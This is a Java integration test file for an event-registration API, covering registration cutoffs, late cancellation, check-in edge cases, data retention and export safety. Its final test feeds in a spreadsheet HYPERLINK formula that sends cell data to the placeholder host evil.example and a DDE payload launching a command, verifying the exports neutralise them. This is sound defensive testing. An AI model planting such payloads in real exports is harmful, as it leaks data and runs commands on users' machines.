package cn.pujin.open.it;

import jakarta.json.Json;
import jakarta.json.JsonObject;
import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.time.OffsetDateTime;
import java.time.ZoneOffset;
import java.time.temporal.ChronoUnit;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;

import static cn.pujin.open.it.Fixtures.id;
import static cn.pujin.open.it.Fixtures.unique;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * The edges nothing guarded before: the minute registration closes, check-in after the end, on a cancelled event and
 * for someone not confirmed, retention at exactly its 24 months, and formulas typed into what organisers export.
 */
class BoundariesIT {

    static final JsonObject EMPTY = Json.createObjectBuilder().build();

    @AfterEach
    void realTime() {
        SuggestionsIT.clock(null);
    }

    @Test
    void registrationClosesAtTheMinuteTheEventSays() {
        OffsetDateTime closes = OffsetDateTime.now(Fixtures.SHANGHAI).plusHours(2).truncatedTo(ChronoUnit.MINUTES);
        long event = id(Fixtures.published(Fixtures.openDay(unique("截止测试"), 5)
                .add("registrationOpensAt", closes.minusHours(3).toString()).add("registrationClosesAt", closes.toString())));
        Api.Citizen late = Api.newCitizen("迟到者");
        Api.Citizen onTime = Api.newCitizen("准时者");
        SuggestionsIT.clock(closes.minusMinutes(1).toString());
        onTime.api().post("/api/v1/events/" + event + "/registrations", EMPTY).expect(201);
        SuggestionsIT.clock(closes.plusMinutes(1).toString());
        late.api().post("/api/v1/events/" + event + "/registrations", EMPTY).problem(409, "REGISTRATION_CLOSED");
        assertEquals(1, Api.as("organiser").get("/api/v1/events/" + event + "/registrations").expect(200).json().getInt("total"));
    }

    @Test
    void onceTheEventHasBegunOnlyAnOrganiserCancelsARegistration() {
        long event = id(Fixtures.published(Fixtures.startingSoon(unique("开始后取消")).add("capacity", 2)));
        Api.Citizen attendee = Api.newCitizen("已开始参加者");
        long registration = PassesIT.register(attendee, event);
        JsonObject e = Api.as("organiser").get("/api/v1/events/" + event).expect(200).json();
        SuggestionsIT.clock(OffsetDateTime.parse(e.getString("startsAt")).plusMinutes(1).toString());
        attendee.api().post("/api/v1/registrations/" + registration + "/cancel").problem(409, "EVENT_STARTED");
        assertEquals("CONFIRMED", attendee.api().get("/api/v1/registrations/" + registration).expect(200).json().getString("status"));
        assertEquals("CANCELLED", Api.as("organiser").post("/api/v1/registrations/" + registration + "/cancel",
                Json.createObjectBuilder().add("reason", "本人现场声明放弃").build()).expect(200).json().getString("status"));
    }

    @Test
    void checkInAfterTheEndOnACancelledEventAndForSomeoneNotConfirmedAdmitsNobody() {
        long event = id(Fixtures.published(Fixtures.startingSoon(unique("签到边界")).add("capacity", 1)));
        CheckInIT.Attendee confirmed = CheckInIT.attendee(event, "已确认者");
        Api.Citizen waiting = Api.newCitizen("候补者");
        long waitlisted = PassesIT.register(waiting, event);
        Api door = Api.bearer(CheckInIT.station(event, "边界入口").getString("key"));
        JsonObject manual = Api.as("organiser").post("/api/v1/checkins/manual", Json.createObjectBuilder().add("registrationId", waitlisted)
                .add("nonce", CheckInIT.nonce()).add("eventId", event).build()).expect(200).json();
        assertEquals("NOT_CONFIRMED", manual.getString("verdict"), manual.toString());

        JsonObject e = Api.as("organiser").get("/api/v1/events/" + event).expect(200).json();
        SuggestionsIT.clock(OffsetDateTime.parse(e.getString("endsAt")).plusMinutes(1).toString());
        assertEquals("EVENT_NOT_OPEN", CheckInIT.scan(door, confirmed.token(), CheckInIT.nonce()).getString("verdict"));
        SuggestionsIT.clock(null);

        long cancelled = CheckInIT.eventStartingSoon();
        CheckInIT.Attendee invited = CheckInIT.attendee(cancelled, "取消场参加者");
        Api gate = Api.bearer(CheckInIT.station(cancelled, "取消场入口").getString("key"));
        Api.as("organiser").post("/api/v1/events/" + cancelled + "/cancel", Json.createObjectBuilder().add("reason", "场地临时维修").build())
                .expect(200);
        JsonObject refused = CheckInIT.scan(gate, invited.token(), CheckInIT.nonce());
        assertEquals("REVOKED", refused.getString("verdict"), "the cancellation revoked the pass: " + refused);
        JsonObject byHand = Api.as("organiser").post("/api/v1/checkins/manual", Json.createObjectBuilder().add("registrationId", invited.registrationId())
                .add("nonce", CheckInIT.nonce()).add("eventId", cancelled).build()).expect(200).json();
        assertEquals("EVENT_NOT_OPEN", byHand.getString("verdict"), byHand.toString());

        for (long id : new long[]{event, cancelled}) {
            JsonObject summary = Api.as("organiser").get("/api/v1/events/" + id + "/checkins/summary").expect(200).json();
            assertEquals(0, summary.getInt("checkedIn"), summary.toString());
        }
    }

    /** An event of the past, created with the clock moved back to just before it. */
    static long pastEvent(String title, OffsetDateTime ends) {
        SuggestionsIT.clock(ends.minusHours(3).toString());
        long event = id(Fixtures.published(StatsIT.at(title, "OPEN_DAY", "OFFLINE", ends.minusHours(2).toString(), ends.toString())));
        PassesIT.register(Api.newCitizen("期限者"), event);
        SuggestionsIT.clock(null);
        return event;
    }

    @Test
    void retentionTakesWhatEndedMoreThan24MonthsAgoAndNothingYounger() {
        OffsetDateTime cutoff = OffsetDateTime.now(ZoneOffset.UTC).minusMonths(24).truncatedTo(ChronoUnit.MINUTES);
        long older = pastEvent(unique("保存期满"), cutoff.minusHours(1).withOffsetSameInstant(Fixtures.SHANGHAI));
        long younger = pastEvent(unique("保存未满"), cutoff.plusHours(1).withOffsetSameInstant(Fixtures.SHANGHAI));
        var due = Api.as("admin").get("/api/v1/retention").expect(200).json().getJsonArray("due").stream()
                .map(d -> d.asJsonObject().getJsonNumber("eventId").longValue()).toList();
        assertTrue(due.contains(older), "ended an hour before the 24 months: " + due);
        assertFalse(due.contains(younger), "ended an hour after: " + due);
        Api.as("admin").post("/api/v1/retention/run").expect(200);
        String youngerList = Api.as("organiser").get("/api/v1/events/" + younger + "/registrations").expect(200).body();
        String olderList = Api.as("organiser").get("/api/v1/events/" + older + "/registrations").expect(200).body();
        assertFalse(youngerList.contains("已匿名化"), youngerList);
        assertTrue(olderList.contains("已匿名化"), olderList);
    }

    @Test
    void formulasTypedByApplicantsStayTextInTheExports() throws Exception {
        String formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")";
        long meeting = id(Fixtures.published(Fixtures.openDay(unique("导出注入"), 12).add("kind", "DECISION_MEETING")));
        Api.Citizen c = Api.newCitizen("公式");
        c.api().post("/api/v1/events/" + meeting + "/registrations", Json.createObjectBuilder().add("category", "ENTERPRISE")
                .add("organisation", formula).add("statement", "+cmd|' /C calc'!A0 我希望列席本次会议并发表意见。").build()).expect(201);
        String csv = new String(Api.as("organiser").bytes("/api/v1/events/" + meeting + "/registrations/export.csv"), StandardCharsets.UTF_8);
        assertTrue(csv.contains("\"'=HYPERLINK("), "the CSV cell starts with an apostrophe: " + csv);
        assertTrue(csv.contains("'+cmd|"), csv);
        assertFalse(csv.matches("(?s).*(^|,)\"?=HYPERLINK.*"), csv);
        byte[] xlsx = Api.as("organiser").bytes("/api/v1/events/" + meeting + "/registrations/export.xlsx");
        try (XSSFWorkbook book = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
            var sheet = book.getSheetAt(0);
            boolean found = false;
            for (var row : sheet) {
                for (var cell : row) {
                    assertTrue(cell.getCellType() != CellType.FORMULA, "a formula cell at " + cell.getAddress());
                    found |= cell.getCellType() == CellType.STRING && cell.getStringCellValue().contains("HYPERLINK");
                }
            }
            assertTrue(found, "the text is there, as text");
        }
    }
}
